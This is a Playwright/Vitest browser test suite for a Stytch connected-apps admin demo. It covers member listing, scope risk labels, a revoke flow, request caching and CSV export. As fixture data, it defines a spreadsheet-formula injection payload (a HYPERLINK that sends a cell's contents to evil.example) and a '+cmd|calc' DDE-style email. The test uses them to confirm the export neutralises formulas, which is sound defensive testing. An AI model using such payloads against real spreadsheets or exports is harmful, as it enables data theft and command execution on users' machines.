import { readFile } from 'node:fs/promises';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { chromiumLaunchOptions } from '../../scripts/chromium.mjs';
import { type DemoServer, startDemoServer, warmUp } from './demo-server';
import { reportUnhandledRejections, watchPageProblems } from './page-problems';

// People and scopes on the demo (handler + real SDK + emulator) in Chromium: members' names, emails and
// statuses from the members search, what each scope means and risks from the RBAC policy, the scope-centric
// view with its revoke, and the CSV export, as a reader sees them.

let demo: DemoServer;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let problems: string[];

beforeAll(async () => {
  [demo, browser] = await Promise.all([startDemoServer(), chromium.launch(chromiumLaunchOptions)]);
  await warmUp(browser, demo.url);
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await demo?.stop();
});

/** A fresh emulator and a fresh page on `server`, watched for console errors and unhandled rejections. */
async function freshPage(server: DemoServer) {
  await fetch(`${server.url}__emulator/reset`, { method: 'POST', headers: { 'content-type': 'application/json' } });
  context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  await reportUnhandledRejections(context);
  page = await context.newPage();
  // A locator that never matches fails with its name, well before the test's own timeout.
  page.setDefaultTimeout(10_000);
  problems = watchPageProblems(page, `${server.url}api/stytch/`);
}
afterEach(async () => {
  await context?.close();
  expect(problems, 'no console error and no unhandled rejection').toEqual([]);
});

const LEDGERLY = 'connected-app-test-0003-third-party';
const RECORDS_CLEANER = 'connected-app-test-0007-records-cleaner';
const LARGE = 'connected-app-test-large-10000';
/** The `index`-th member of the default data (its id ends with the index in hex). */
const memberId = (index: number) => `member-test-32fc5024-9c09-4da3-bd2e-${index.toString(16).padStart(12, '0')}`;
/** demo/demo-data.ts names member 4 like a spreadsheet formula, with such an email too. */
const FORMULA_MEMBER = memberId(4);
const FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A2,"Refund")';
const FORMULA_EMAIL = '+cmd|calc@evil.example';
const SEARCH_PATH = '/v1/b2b/organizations/members/search';
const POLICY_PATH = '/v1/b2b/rbac/policy';

const panel = () => page.locator('[data-slot="connected-app-panel"]');
const appScopes = () => page.locator('[data-slot="app-scopes"]');
const rows = () => panel().locator('[data-slot="members-list-item"]');
const openButton = (name: string) => panel().getByRole('button', { name: `Show scopes of ${name}`, exact: true });
/** The members-list row of the member shown as `name`. */
const row = (name: string) =>
  rows().filter({ has: page.getByRole('button', { name: `Show scopes of ${name}`, exact: true }) });
const chip = (name: string, scope: string) => row(name).locator('[data-slot="scope-chip"]').filter({ hasText: scope });

/** Opens the demo on `app` as Acme's admin and waits until the panel shows it, with members' names. */
async function open(server: DemoServer, app: string, appName: string, firstMember = 'Ada Lovelace') {
  await page.goto(`${server.url}?org=acme&app=${app}&as=acmeAdmin`);
  await waitForApp(appName, firstMember);
}

async function waitForApp(appName: string, firstMember: string, timeout = 15_000) {
  await page.locator('[data-slot="connected-app-panel"][data-status="success"]').waitFor({ timeout });
  await panel().getByRole('heading', { level: 2, name: appName }).waitFor({ timeout });
  // Names come from the members search, after the app: a row named after a person means it answered.
  await openButton(firstMember).first().waitFor({ timeout });
}

async function emulatorRequests(server: DemoServer): Promise<Array<{ method: string; path: string; status: number }>> {
  const { requests } = (await (await fetch(`${server.url}__emulator/requests`)).json()) as {
    requests: Array<{ method: string; path: string; status: number }>;
  };
  return requests;
}

/** How many requests reached Stytch (the emulator) on `path`. */
async function stytchCalls(server: DemoServer, path: string): Promise<number> {
  return (await emulatorRequests(server)).filter((request) => request.path.split('?')[0] === path).length;
}

/** Splits RFC 4180 CSV (quoted cells, doubled quotes, CRLF) into rows of cells. */
function parseCsv(text: string): string[][] {
  const table: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      cells.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      cells.push(cell);
      table.push(cells);
      cells = [];
      cell = '';
      index += 1;
    } else cell += char;
  }
  if (cell !== '' || cells.length > 0) table.push([...cells, cell]);
  return table;
}

describe('people and scopes in the demo, in Chromium', () => {
  beforeEach(() => freshPage(demo));

  it('shows members’ names and emails, and a search by email narrows to that member', async () => {
    await open(demo, LEDGERLY, 'Ledgerly Accounting');
    expect(await rows().count()).toBe(50);
    const ada = row('Ada Lovelace');
    expect(await ada.locator('[data-slot="members-list-email"]').textContent()).toBe('ada.lovelace.0@acme.example');
    expect(await ada.locator('[data-slot="members-list-member-id"]').textContent()).toBe(memberId(0));
    expect(await row('Grace Turing').locator('[data-slot="members-list-email"]').textContent()).toBe(
      'grace.turing.21@acme.example',
    );

    // A name typed like a formula is shown as those characters.
    const formula = row(FORMULA_NAME);
    expect(await formula.locator('[data-slot="members-list-open"]').textContent()).toBe(FORMULA_NAME);
    expect(await formula.locator('[data-slot="members-list-email"]').textContent()).toBe(FORMULA_EMAIL);
    expect(await formula.locator('[data-slot="members-list-member-id"]').textContent()).toBe(FORMULA_MEMBER);

    await panel().getByRole('searchbox', { name: 'Search members' }).fill('turing.21@acme');
    await panel().getByText('Showing 1 member', { exact: true }).waitFor();
    expect(await rows().count()).toBe(1);
    expect(await openButton('Grace Turing').count()).toBe(1);
    expect(await rows().first().textContent()).toContain('grace.turing.21@acme.example');

    // Case does not matter, and a text matching nobody says so.
    await panel().getByRole('searchbox', { name: 'Search members' }).fill('ADA.LOVELACE.0@');
    await panel().getByText('Showing 1 member', { exact: true }).waitFor();
    expect(await openButton('Ada Lovelace').count()).toBe(1);
    await panel().getByRole('searchbox', { name: 'Search members' }).fill('nobody@acme.example');
    await panel().getByText('No member matches your search.').waitFor();
    expect(await rows().count()).toBe(0);
  });

  it('flags deleted, invited and pending members in words, and an active one not at all', async () => {
    await open(demo, LEDGERLY, 'Ledgerly Accounting');
    const status = (name: string) => row(name).locator('[data-slot="member-status"]');
    expect(await status('Barbara Lovelace').textContent()).toBe('Deleted');
    expect(await status('Ada Johnson').textContent()).toBe('Deleted');
    expect(await status('Grace Hopper').textContent()).toBe('Invited');
    expect(await status('Alan Torvalds').textContent()).toBe('Invited');
    expect(await status('Katherine Hopper').textContent()).toBe('Pending');
    expect(await status('Ada Lovelace').count()).toBe(0);
    // Exactly those: every other member of the 50 is active.
    const shown = await panel().locator('[data-slot="member-status"]').allTextContents();
    expect(shown.sort()).toEqual(['Deleted', 'Deleted', 'Invited', 'Invited', 'Pending']);
  });

  it('shows a member missing from the directory by id, with “Not found”', async () => {
    // Member 50 is the first the directory leaves out; only the 10,000-member app has them.
    await page.goto(`${demo.url}?org=acme&app=${LARGE}&as=acmeAdmin`);
    await page.locator('[data-slot="connected-app-panel"][data-status="success"]').waitFor({ timeout: 20_000 });
    await panel().getByRole('heading', { level: 2, name: 'Company-wide Calendar' }).waitFor();
    // Ten searches of 1,000 ids: either the names come, or the list says it could not load them.
    const namesFailed = panel().locator('[data-slot="members-list-names-notice"]');
    await openButton('Ada Lovelace').first().or(namesFailed).first().waitFor({ timeout: 20_000 });
    expect(await namesFailed.count(), 'no “Couldn’t load names”: the members search answered').toBe(0);
    await panel().getByRole('searchbox', { name: 'Search members' }).fill(memberId(50));
    await panel().getByText('Showing 1 member', { exact: true }).waitFor({ timeout: 15_000 });
    const missing = row(memberId(50));
    await missing.locator('[data-slot="member-status"]').getByText('Not found', { exact: true }).waitFor();
    expect(await missing.locator('[data-slot="members-list-email"]').count()).toBe(0);
    expect(await rows().count()).toBe(1);

    // Its neighbour is found, by name.
    await panel().getByRole('searchbox', { name: 'Search members' }).fill(memberId(51));
    await openButton('Grace Hamilton').waitFor();
    expect(await row('Grace Hamilton').locator('[data-slot="members-list-email"]').textContent()).toBe(
      'grace.hamilton.51@acme.example',
    );
    expect(await rows().locator('[data-slot="member-status"]').count()).toBe(0);
  }, 60_000);

  it('says what delete:records means and that it is high risk, and that offline_access is long-lived', async () => {
    await open(demo, RECORDS_CLEANER, 'Records Cleaner');
    // Ada (even index) granted delete:records; Grace (odd) admin:all and offline_access.
    const deleteChip = chip('Ada Lovelace', 'delete:records');
    await deleteChip.locator('[data-slot="scope-chip-risk"]').getByText('High risk').waitFor();
    expect(await deleteChip.getAttribute('title')).toBe('Delete customer records.');
    const offline = chip('Grace Lovelace', 'Offline access');
    expect((await offline.locator('[data-slot="scope-chip-risk"]').textContent())?.trim()).toBe('Long-lived');
    expect(await offline.getAttribute('title')).toBe('Keeps access while the member is away, through a refresh token.');
    expect(
      (await chip('Grace Lovelace', 'admin:all').locator('[data-slot="scope-chip-risk"]').textContent())?.trim(),
    ).toBe('High risk');

    // The member's dialog says it in full.
    await openButton('Ada Lovelace').click();
    const dialog = page.getByRole('dialog', { name: 'Scopes granted by Ada Lovelace' });
    await dialog.waitFor();
    const deleteEntry = dialog.locator('[data-slot="member-scope"]').filter({ hasText: 'delete:records' });
    expect(await deleteEntry.locator('[data-slot="member-scope-description"]').textContent()).toBe(
      'Delete customer records.',
    );
    expect(await deleteEntry.locator('[data-slot="member-scope-risk"]').textContent()).toBe('High risk');
    expect(await deleteEntry.locator('[data-slot="member-scope-risk-description"]').textContent()).toBe(
      'Can delete data, or do anything on any resource.',
    );
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });

    await openButton('Grace Lovelace').click();
    const graceDialog = page.getByRole('dialog', { name: 'Scopes granted by Grace Lovelace' });
    await graceDialog.waitFor();
    const offlineEntry = graceDialog.locator('[data-slot="member-scope"]').filter({ hasText: 'offline_access' });
    expect(await offlineEntry.locator('[data-slot="member-scope-risk"]').textContent()).toBe('Long-lived');
    expect(await offlineEntry.locator('[data-slot="member-scope-risk-description"]').textContent()).toBe(
      'Access that outlives the member’s session.',
    );
    await graceDialog.getByRole('button', { name: 'Close' }).click();
    await graceDialog.waitFor({ state: 'detached' });

    // The scope-centric view: riskiest first, each with its meaning and risk in words.
    const items = appScopes().locator('[data-slot="app-scope"]');
    await items.first().waitFor();
    const deleteItem = items.filter({ hasText: 'delete:records' });
    expect(await deleteItem.locator('[data-slot="app-scope-risk"]').textContent()).toBe('High risk');
    expect(await deleteItem.locator('[data-slot="app-scope-description"]').textContent()).toContain(
      'Delete customer records.',
    );
    expect(await deleteItem.locator('[data-slot="app-scope-count"]').textContent()).toBe('3 members');
    expect(
      await items.filter({ hasText: 'offline_access' }).locator('[data-slot="app-scope-risk"]').textContent(),
    ).toBe('Long-lived');
    expect(await items.evaluateAll((all) => all.map((item) => item.getAttribute('data-risk')))).toEqual([
      'high',
      'high',
      'long-lived',
      'low',
    ]);
  });

  it('lists admin:all’s holders by name and revokes them all; the members list agrees without a reload', async () => {
    await open(demo, RECORDS_CLEANER, 'Records Cleaner');
    expect(await panel().locator('[data-slot="members-list-count"]').textContent()).toBe('5 members');
    const admin = appScopes()
      .locator('[data-slot="app-scope"]')
      .filter({ has: page.locator('[data-slot="app-scope-label"]', { hasText: /^admin:all$/ }) });
    await admin.getByRole('button', { name: /^admin:all/ }).click();
    const holders = appScopes().getByRole('list', { name: 'Members holding admin:all' });
    await holders.getByText('Katherine Lovelace', { exact: true }).waitFor();
    expect(await holders.locator('[data-slot="app-scope-holder-name"]').allTextContents()).toEqual([
      'Grace Lovelace',
      'Katherine Lovelace',
    ]);
    expect(await holders.locator('[data-slot="app-scope-holder-id"]').allTextContents()).toEqual([
      memberId(1),
      memberId(3),
    ]);

    await appScopes().getByRole('button', { name: 'Revoke access for all 2 members holding admin:all' }).click();
    const dialog = page.getByRole('alertdialog');
    await dialog.waitFor();
    expect(await dialog.textContent()).toContain('Revoke access for 2 members?');
    await dialog.getByRole('button', { name: 'Revoke access for 2 members' }).click();
    await appScopes().getByText('Access revoked for 2 members.').waitFor();

    // admin:all has no holder left; the panel's list lost the same two members, on the same page.
    await admin.waitFor({ state: 'detached' });
    await panel().locator('[data-slot="members-list-count"]').getByText('3 members', { exact: true }).waitFor();
    expect(await openButton('Grace Lovelace').count()).toBe(0);
    expect(await openButton('Katherine Lovelace').count()).toBe(0);
    expect(await openButton('Ada Lovelace').count()).toBe(1);
    expect(await rows().count()).toBe(3);
    expect(await appScopes().locator('[data-slot="app-scope"]').filter({ hasText: 'offline_access' }).count()).toBe(0);
    const revokes = (await emulatorRequests(demo)).filter((request) => request.path.endsWith('/revoke'));
    expect(revokes.map((request) => request.status)).toEqual([200, 200]);
  });

  it('exports the members as a CSV with a BOM, a header, names and emails, and no formula cell', async () => {
    await open(demo, LEDGERLY, 'Ledgerly Accounting');
    const exporter = panel().getByRole('group', { name: 'Export all members' });
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      exporter.getByRole('button', { name: 'Export CSV' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe(`${LEDGERLY}-members.csv`);
    const path = await download.path();
    const bytes = await readFile(path);
    await exporter.getByText('Exported 50 members.').waitFor();

    // UTF-8 with a BOM, for Excel.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.startsWith('member_id,name,email,status,scopes,risk\r\n')).toBe(true);
    const [header, ...lines] = parseCsv(text);
    expect(header).toEqual(['member_id', 'name', 'email', 'status', 'scopes', 'risk']);
    expect(lines).toHaveLength(50);
    expect(lines.every((cells) => cells.length === 6)).toBe(true);
    expect(lines[0]).toEqual([
      memberId(0),
      'Ada Lovelace',
      'ada.lovelace.0@acme.example',
      'active',
      'openid profile email',
      'low',
    ]);
    expect(lines.find((cells) => cells[1] === 'Barbara Lovelace')?.[3]).toBe('deleted');
    expect(lines.find((cells) => cells[1] === 'Katherine Hopper')?.[3]).toBe('pending');
    // The member named like a formula: both cells are text to a spreadsheet (a leading '), the name quoted.
    expect(lines.find((cells) => cells[0] === FORMULA_MEMBER)).toEqual([
      FORMULA_MEMBER,
      `'${FORMULA_NAME}`,
      `'${FORMULA_EMAIL}`,
      'active',
      'openid profile write:reports offline_access',
      'medium',
    ]);
    expect(text).toContain(
      `${FORMULA_MEMBER},"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Refund"")",'+cmd|calc@evil.example,active,`,
    );
    // Every other member has a name and an email from the members search.
    const others = lines.filter((cells) => cells[0] !== FORMULA_MEMBER);
    expect(others.filter((cells) => cells[1] === '' || !cells[2]?.endsWith('@acme.example'))).toEqual([]);
    // No cell a spreadsheet would run: one starting with = + - @ (or a tab or CR) must carry a leading '.
    const formulas = lines.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(formulas).toEqual([]);
  });
});

describe('what the demo asks Stytch for names and scope meanings, in Chromium', () => {
  // Its own demo: the handler keeps the RBAC policy for 5 minutes, so only a fresh one asks Stytch for it.
  let fresh: DemoServer;
  let pageCalls: string[];
  beforeAll(async () => {
    fresh = await startDemoServer();
    await warmUp(browser, fresh.url, '?as=none');
  }, 120_000);
  afterAll(async () => {
    await fresh?.stop();
  });
  beforeEach(async () => {
    await freshPage(fresh);
    pageCalls = [];
    page.on('request', (request) => {
      const url = new URL(request.url());
      if (url.pathname.startsWith('/api/stytch/')) pageCalls.push(`${request.method()} ${url.pathname}`);
    });
  });
  const pageSearches = () => pageCalls.filter((call) => call.endsWith('/members/search')).length;
  const pagePolicies = () => pageCalls.filter((call) => call.endsWith('/rbac/policy')).length;

  it('makes one members search and one policy request for the panel, and none again when coming back', async () => {
    await open(fresh, LEDGERLY, 'Ledgerly Accounting');
    // Risk from the policy is in: write:reports is medium, not unknown.
    await chip('Frances Lovelace', 'write:reports').and(page.locator('[data-risk="medium"]')).waitFor();
    await page.waitForTimeout(300);
    expect(await stytchCalls(fresh, SEARCH_PATH)).toBe(1);
    expect(await stytchCalls(fresh, POLICY_PATH)).toBe(1);
    expect(pageSearches()).toBe(1);
    // The page itself asks the handler for the policy once, or twice in development: under React's
    // StrictMode (as the demo runs) the policy requested by AppScopes while the app loads is requested again
    // when the members list mounts; the handler's policy cache answers the second, so Stytch sees one.
    const policies = pagePolicies();
    expect(policies).toBeGreaterThanOrEqual(1);
    expect(policies).toBeLessThanOrEqual(2);

    // Another app, whose members were all seen already: its names and meanings come from the cache.
    await page
      .getByRole('navigation')
      .getByRole('button', { name: /Records Cleaner/ })
      .click();
    await waitForApp('Records Cleaner', 'Ada Lovelace');
    await chip('Ada Lovelace', 'delete:records').and(page.locator('[data-risk="high"]')).waitFor();
    // And back.
    await page
      .getByRole('navigation')
      .getByRole('button', { name: /Ledgerly Accounting/ })
      .click();
    await waitForApp('Ledgerly Accounting', 'Ada Lovelace');
    await chip('Frances Lovelace', 'write:reports').and(page.locator('[data-risk="medium"]')).waitFor();
    await page.waitForTimeout(300);
    expect(await stytchCalls(fresh, SEARCH_PATH)).toBe(1);
    expect(await stytchCalls(fresh, POLICY_PATH)).toBe(1);
    expect([pageSearches(), pagePolicies()]).toEqual([1, policies]);
    // The apps themselves were fetched (the switch did happen).
    expect(pageCalls.some((call) => call.endsWith(`/connected_apps/${RECORDS_CLEANER}`))).toBe(true);
  });
});

describe('the virtualized members list (10,000 members, virtua)', () => {
  beforeEach(async () => {
    await freshPage(demo);
  });

  it('keeps a few screens of rows, each saying where it stands, and the focused row mounted while scrolled away', async () => {
    await page.goto(`${demo.url}?org=acme&app=${LARGE}&as=acmeAdmin`);
    await page.locator('[data-slot="connected-app-panel"][data-status="success"]').waitFor({ timeout: 20_000 });
    const viewport = panel().locator('[data-slot="members-list-viewport"]');
    await openButton('Ada Lovelace').first().waitFor({ timeout: 20_000 });
    expect(await rows().count()).toBeLessThan(40);
    await expect
      .poll(() =>
        rows()
          .first()
          .evaluate((row) => [row.getAttribute('aria-setsize'), row.getAttribute('aria-posinset')]),
      )
      .toEqual(['10000', '1']);

    // Focus a control in the first row, then scroll the box to its end.
    await openButton('Ada Lovelace').first().focus();
    await viewport.evaluate((box) => {
      box.scrollTop = box.scrollHeight;
    });
    const last = rows().and(page.locator('[aria-posinset="10000"]'));
    await last.waitFor();
    expect(await last.getAttribute('aria-setsize')).toBe('10000');
    // The first row is still in the DOM, its button still focused: keyboard focus was not dropped to the page.
    const focusedRow = await page.evaluate(() =>
      document.activeElement?.closest('[data-slot="members-list-item"]')?.getAttribute('aria-posinset'),
    );
    expect(focusedRow).toBe('1');
    expect(await rows().count()).toBeLessThan(45);
  }, 60_000);
});
